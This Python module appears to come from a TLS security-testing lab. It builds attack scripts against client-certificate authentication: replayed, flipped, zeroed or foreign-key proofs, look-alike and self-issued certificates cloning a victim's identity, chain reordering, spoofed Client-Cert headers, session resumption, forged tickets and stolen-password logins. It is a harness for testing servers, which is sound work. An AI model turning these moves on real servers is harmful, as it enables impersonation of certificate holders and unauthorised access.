"""How each move is made: from the loot to the script of an attempt.

A script says everything about one attempt and does nothing by itself; `attacker.moves.replay` carries it out.
"""

import base64
import os
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from functools import cache
from typing import Any, TypeAlias

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from attacker.moves.forged import SUITE, forged_ticket
from attacker.moves.headers import Headers, spellings
from lab.catalogue.moves import OTHER_DOOR, PREFIX, STOLEN_KEY
from lab.catalogue.outcomes import NO_TICKET
from lab.tls import extensions as ext
from lab.tls import proof
from lab.tls.bundle import Bundle
from lab.tls.connection import Step
from lab.tls.flight import (
    Flight,
    SendCertificate,
    SendChangeCipherSpec,
    SendFinished,
    SendKeyExchange,
    SendProof,
    honest_flight,
)
from lab.tls.keys import MASTER_SECRET_LENGTH
from lab.tls.messages import CertificateVerify, ClientHello
from lab.tls.proof import SIGNATURE_SCHEMES, Challenge, PrivateKey, Prover
from lab.tls.sessions import Session, Session13
from lab.tls.versions import TLS12, TLS13, Version

CLOCK_SKEW = timedelta(minutes=5)


class NotApplicable(Exception):
    """This move cannot be made; the text says why. `local` is the address from which that was found out, if any."""

    def __init__(self, reason: str, local: str = "") -> None:
        super().__init__(reason)
        self.local = local


@dataclass(frozen=True)
class Loot:
    """What a leak gave: the certificates, the proof that their owner once made, and more.

    `proof` is None if no CertificateVerify was seen; `hello` is the ClientHello before it. `session` is what the wire
    shows of a TLS 1.2 session, None if the server kept none. `ticket` is what a client offered to resume a TLS 1.3
    session with, None if none was seen. `recorded` is all that the client sent on one whole
    connection, by version. `own` is mallory's own bundle, as a customer of the bank. `seen_at` is where the certificate
    was seen: the server's address on the wire, or a file. `key` is the certificate's private key, None unless it leaked
    too.
    """

    chain: tuple[bytes, ...]
    proof: CertificateVerify | None
    hello: ClientHello | None = None
    session: Session | None = None
    ticket: ext.OfferedPsk | None = None
    recorded: Mapping[int, bytes] = field(default_factory=dict)
    own: Bundle | None = None
    seen_at: str = ""
    key: PrivateKey | None = None
    other_door: "OtherDoor | None" = None
    """Another name of the server; None if none is known."""


@dataclass(frozen=True)
class OtherDoor:
    """Another name of a server, with the bundle of mallory's own that gets in there."""

    name: str
    bundle: Bundle


@dataclass(frozen=True)
class Script:
    """What one attempt does.

    It sends `flight`, after the captured ClientHello `hello` if there is one. Or it offers to resume the session of
    `resume`, or sends `recorded` and nothing else. `header` is the certificate for servers that do not ask for one in
    TLS but read a Client-Cert header (RFC 9440): empty for none, None if the move has no meaning there. `signed_by` is
    the public key (SubjectPublicKeyInfo in DER) of the attacker's own key that makes the proof, if one does.
    `authorization` goes with each request to such servers, if it is not empty (RFC 7617). `spellings` are headers that
    say who the client is, in every way they are written: one way goes with each request, whatever the server asks for.
    """

    flight: Flight | None = None
    hello: ClientHello | None = None
    resume: Session | Session13 | ext.OfferedPsk | None = None
    recorded: bytes = b""
    header: bytes | None = None
    signed_by: bytes = b""
    authorization: str = field(default="", repr=False)
    spellings: tuple[Headers, ...] = ()
    tickets: bool = False
    """Whether to ask for a ticket."""
    unresumed_counts: bool = False
    """Whether it says something too if the server does not resume the session: that nobody is let in this way."""
    elsewhere: "Script | None" = None
    """What logs in at the server's other door first; `resume` is then the session of that login."""
    server_name: str = ""
    """The name of the server to ask for; empty for the usual one."""
    began: tuple[Step, ...] = ()
    """What crossed the wire in the login at the other door."""


Maker: TypeAlias = Callable[[Loot, Version], Script]
"""Makes the script of a move, for one version, from the loot; NotApplicable if that is impossible."""


def no_certificate(loot: Loot, version: Version) -> Script:
    return Script(honest_flight(version, (), None), header=b"")


def no_certificate_message(loot: Loot, version: Version) -> Script:
    _, *rest = honest_flight(version, (), None)
    return Script(tuple(rest))


def verify_header(loot: Loot, version: Version) -> Script:
    leaf = loot.chain[0]
    return Script(honest_flight(version, (), None), header=leaf, spellings=spellings(leaf))


def omit_proof(loot: Loot, version: Version) -> Script:
    return Script(honest_flight(version, loot.chain, None), header=loot.chain[0])


def replay_proof(loot: Loot, version: Version) -> Script:
    return _with_captured(loot, version, lambda captured: captured)


def relabelled_proof(loot: Loot, version: Version) -> Script:
    return _with_captured(loot, version, lambda captured: replace(captured, scheme=_another_scheme(loot, captured)))


def flipped_proof(loot: Loot, version: Version) -> Script:
    def flip(captured: CertificateVerify) -> CertificateVerify:
        return replace(captured, signature=captured.signature[:-1] + bytes((captured.signature[-1] ^ 1,)))

    return _with_captured(loot, version, flip)


def foreign_key(loot: Loot, version: Version) -> Script:
    key = fresh_key(loot.chain[0])
    return Script(honest_flight(version, loot.chain, proof.prove_with(key)), signed_by=_public_part(key))


def empty_proof(loot: Loot, version: Version) -> Script:
    return Script(honest_flight(version, loot.chain, _signature(loot, lambda scheme: b"")))


def zero_proof(loot: Loot, version: Version) -> Script:
    def zeros(scheme: proof.SignatureScheme) -> bytes:
        key = proof.public_key(loot.chain[0])
        match key:
            case ec.EllipticCurvePublicKey():
                return encode_dss_signature(0, 0)
            case rsa.RSAPublicKey():
                return bytes(key.key_size // 8)
            case _:
                return bytes(64)

    return Script(honest_flight(version, loot.chain, _signature(loot, zeros)))


def look_alike(loot: Loot, version: Version) -> Script:
    return stolen_key(look_alike_bundle(loot), version)


def look_alike_bundle(loot: Loot) -> Bundle:
    """Such a certificate with its key."""
    key = fresh_key(loot.chain[0])
    return Bundle((look_alike_certificate(loot.chain[0], key),), key)


def self_issued(loot: Loot, version: Version) -> Script:
    key, model = fresh_key(loot.chain[0]), x509.load_der_x509_certificate(loot.chain[0])
    names = [one.value for one in model.extensions if isinstance(one.value, x509.SubjectAlternativeName)]
    return stolen_key(Bundle((self_issued_certificate(model.subject, key, names),), key), version)


def own_leaf_first(loot: Loot, version: Version) -> Script:
    own = _own(loot)
    return Script(honest_flight(version, (own.chain[0], *loot.chain), proof.prove_with(own.key)))


def stolen_leaf_first(loot: Loot, version: Version) -> Script:
    own = _own(loot)
    chain = (loot.chain[0], own.chain[0], *loot.chain[1:])
    return Script(honest_flight(version, chain, proof.prove_with(own.key)))


def early_proof(loot: Loot, version: Version) -> Script:
    captured = _captured(loot)
    certificate, early = SendCertificate(loot.chain), SendProof(lambda challenge: captured)
    if version == TLS13:
        return Script((early, certificate, SendFinished()))
    return Script((certificate, early, SendKeyExchange(), SendChangeCipherSpec(), SendFinished()))


def early_finished(loot: Loot, version: Version) -> Script:
    return Script((SendCertificate(loot.chain), SendChangeCipherSpec(), SendFinished()))


def second_certificate(loot: Loot, version: Version) -> Script:
    own = _own(loot)
    *honest, finished = honest_flight(version, own.chain, proof.prove_with(own.key))
    if version == TLS12:
        finished, ccs = SendFinished(), honest.pop()
        return Script((*honest, SendCertificate(loot.chain), ccs, finished))
    return Script((*honest, SendCertificate(loot.chain), finished))


def replay_flight(loot: Loot, version: Version) -> Script:
    recorded = loot.recorded.get(version)
    if not recorded:
        raise NotApplicable("no whole connection of this version was recorded at this server")
    return Script(recorded=recorded, header=b"")


def resume_session(loot: Loot, version: Version) -> Script:
    if version == TLS13:
        if loot.ticket is None:
            raise NotApplicable(NO_TICKET)
        guess = replace(loot.ticket, binder=os.urandom(len(loot.ticket.binder)))
        return Script(honest_flight(version, (), None), resume=guess)
    if loot.session is None:
        raise NotApplicable("the wire showed no session that the server gave the client")
    return Script(honest_flight(version, (), None), resume=loot.session)


def other_door(loot: Loot, version: Version) -> Script:
    if loot.other_door is None:
        raise NotApplicable("no other name of the server is known: give --other-name, and --other-bundle for it")
    login = replace(stolen_key(loot.other_door.bundle, version), tickets=True, server_name=loot.other_door.name)
    return Script(honest_flight(version, (), None), unresumed_counts=True, elsewhere=login)


def forge_ticket(loot: Loot, version: Version) -> Script:
    if version != TLS12:
        raise NotApplicable("no ticket of this version is known that can be made without a key")
    master = os.urandom(MASTER_SECRET_LENGTH)
    ticket = forged_ticket(loot.chain, master, SUITE, os.urandom(16))
    session = Session(b"", ticket, master, SUITE, extended=False)
    return Script(honest_flight(version, (), None), resume=session, unresumed_counts=True)


def prefix(loot: Loot, version: Version) -> Script:
    raise NotApplicable("nothing comes back to such a request; whether it counts shows at the server alone")


def with_key(loot: Loot, version: Version) -> Script:
    if loot.key is None:
        raise NotApplicable("no private key leaked")
    return stolen_key(Bundle(loot.chain, loot.key), version)


def stolen_key(bundle: Bundle, version: Version) -> Script:
    """The control: the proof made with the real key."""
    return Script(honest_flight(version, bundle.chain, proof.prove_with(bundle.key)), header=bundle.chain[0])


def stolen_password(name: str, password: str, version: Version) -> Script:
    """No certificate, but name and password."""
    basic = base64.b64encode(f"{name}:{password}".encode()).decode()
    return Script(honest_flight(version, (), None), header=b"", authorization=f"Basic {basic}")


def look_alike_certificate(certificate: bytes, key: PrivateKey) -> bytes:
    """A copy of `certificate`, in DER, for another `key` and signed by that key.

    Subject, issuer, serial number, validity and all extensions are the same, including the key identifiers.
    """
    model = x509.load_der_x509_certificate(certificate)
    builder = (
        x509.CertificateBuilder()
        .subject_name(model.subject)
        .issuer_name(model.issuer)
        .serial_number(model.serial_number)
        .not_valid_before(min(model.not_valid_before_utc, datetime.now(UTC) - CLOCK_SKEW))
        .not_valid_after(model.not_valid_after_utc)
        .public_key(key.public_key())
    )
    for extension in model.extensions:
        builder = builder.add_extension(extension.value, extension.critical)
    return _signed(builder, key)


def self_issued_certificate(
    name: x509.Name, key: PrivateKey, alternatives: Sequence[x509.SubjectAlternativeName] = ()
) -> bytes:
    """A new certificate, in DER, for one day, with this subject and these alternative names: signed by its own key."""
    now = datetime.now(UTC)
    builder = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - CLOCK_SKEW)
        .not_valid_after(now + timedelta(days=1))
        .public_key(key.public_key())
    )
    for alternative in alternatives:
        builder = builder.add_extension(alternative, critical=False)
    return _signed(builder, key)


def _signed(builder: x509.CertificateBuilder, key: PrivateKey) -> bytes:
    hash_: Any = None if isinstance(key, ed25519.Ed25519PrivateKey) else hashes.SHA256()
    return builder.sign(key, hash_).public_bytes(Encoding.DER)


def _captured(loot: Loot) -> CertificateVerify:
    if loot.proof is None:
        raise NotApplicable("no proof was captured")
    return loot.proof


def _with_captured(loot: Loot, version: Version, change: Callable[[CertificateVerify], CertificateVerify]) -> Script:
    """The captured proof, in a handshake as much like the client's as possible.

    In TLS 1.2 even the ClientHello is the client's, so only the server's messages differ. Where the server chooses out
    of it what the lab cannot do, such as HTTP/2 or a suite without an AEAD, `attempt` leaves that out of the copy.
    """
    answer = change(_captured(loot))
    return replay_with(loot, version, lambda challenge: answer)


def replay_with(loot: Loot, version: Version, prove: Prover) -> Script:
    """The captured certificate with a proof of any kind, in such a handshake; NotApplicable without a captured one."""
    _captured(loot)
    hello = loot.hello if version == TLS12 else None
    return Script(honest_flight(version, loot.chain, prove), hello=hello)


def _another_scheme(loot: Loot, captured: CertificateVerify) -> int:
    """The next best scheme for such a key, or any other scheme if there is none."""
    kind = proof.key_kind(proof.public_key(loot.chain[0]))
    others = [scheme for scheme in SIGNATURE_SCHEMES if scheme.id != captured.scheme]
    return next((scheme.id for scheme in others if scheme.key == kind), others[0].id)


def _signature(loot: Loot, make: Callable[[proof.SignatureScheme], bytes]) -> Prover:
    """A proof in a scheme that fits the certificate, with a made-up signature."""
    key = proof.public_key(loot.chain[0])

    def prove(challenge: Challenge) -> CertificateVerify:
        scheme = proof.choose_scheme(key, challenge.schemes, challenge.version) or SIGNATURE_SCHEMES[0]
        return CertificateVerify(scheme.id, make(scheme))

    return prove


def _public_part(key: PrivateKey) -> bytes:
    return key.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)


def _own(loot: Loot) -> Bundle:
    if loot.own is None:
        raise NotApplicable("mallory has no certificate of her own here")
    return loot.own


def fresh_key(certificate: bytes) -> PrivateKey:
    """A key of mallory's own, of the same kind as the certificate's, so that its signatures are well-formed."""
    key = proof.public_key(certificate)
    if isinstance(key, ec.EllipticCurvePublicKey):
        return _new_key("ECDSA", key.curve.name)
    return _new_key(proof.key_kind(key), "")


@cache
def _new_key(kind: str, curve: str) -> PrivateKey:
    match kind:
        case "ECDSA":
            curves = {one.name: one for one in (ec.SECP256R1(), ec.SECP384R1(), ec.SECP521R1())}
            return ec.generate_private_key(curves.get(curve, ec.SECP256R1()))
        case "RSA":
            return rsa.generate_private_key(65537, 2048)
        case _:
            return ed25519.Ed25519PrivateKey.generate()


MAKERS: Mapping[str, Maker] = {
    "no-certificate": no_certificate,
    "no-certificate-message": no_certificate_message,
    "verify-header": verify_header,
    "omit-proof": omit_proof,
    "replay-proof": replay_proof,
    "relabelled-proof": relabelled_proof,
    "flipped-proof": flipped_proof,
    "foreign-key": foreign_key,
    "empty-proof": empty_proof,
    "zero-proof": zero_proof,
    "look-alike": look_alike,
    "own-leaf-first": own_leaf_first,
    "stolen-leaf-first": stolen_leaf_first,
    "early-proof": early_proof,
    "early-finished": early_finished,
    "second-certificate": second_certificate,
    "replay-flight": replay_flight,
    "resume-session": resume_session,
    STOLEN_KEY: with_key,
    "self-issued": self_issued,
    OTHER_DOOR: other_door,
    "forged-ticket": forge_ticket,
    PREFIX: prefix,
}
"""How each move of the catalogue is made, by its id."""
